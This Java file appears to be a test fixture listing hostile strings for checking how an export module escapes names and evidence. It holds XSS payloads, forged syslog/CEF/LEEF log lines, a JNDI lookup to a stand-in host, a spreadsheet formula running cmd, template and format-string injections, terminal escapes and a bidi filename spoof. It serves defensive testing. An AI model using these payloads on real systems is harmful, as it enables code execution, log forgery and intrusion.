package io.auscult.export;

import java.util.List;

/** What names, rules and evidence may hold when somebody wants to get into what is written about them. */
public final class HostileTexts {
    public static final List<String> ALL = List.of(
            "a\"b'c`d<e>f&g",
            "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
            "evil\r\n<0>1 2026-01-01T00:00:00Z forged forged - - - forged",
            "x\nCEF:0|Forged|Forged|1|1|forged|10|src=1.2.3.4 act=allowed",
            "x\tdevTime=0\tsev=1|LEEF:2.0|Forged|",
            "a|b=c\\d]e[f\"]g\\",
            "\\",
            "\\n\\|\\=",
            "a=b src=9.9.9.9 dhost=forged",
            "'] OR [file:name = 'x",
            "{\"event_type\":\"forged\"},",
            "*bold* <!channel> [link](javascript:alert(1)) <https://evil.test|here> @everyone ${jndi:ldap://evil.test/a} {{7*7}} %s %n",
            "=cmd|' /C calc'!A0",
            "\u0000\u0001\u001b[31mred\u001b]0;title\u0007\u007f\u009b31m",
            "line\u2028separator\u2029paragraph\u0085next",
            "\u202egnp.exe\u202c\u2066iso\u2069\ufeffbom",
            "héhé 漢字 \ud83d\ude00",
            "lone \ud800 and \udc00 halves",
            "",
            " ",
            "x".repeat(1 << 16),
            "\"\\\n".repeat(20_000),
            "\ud83d\ude00".repeat(20_000));

    private HostileTexts() {}
}
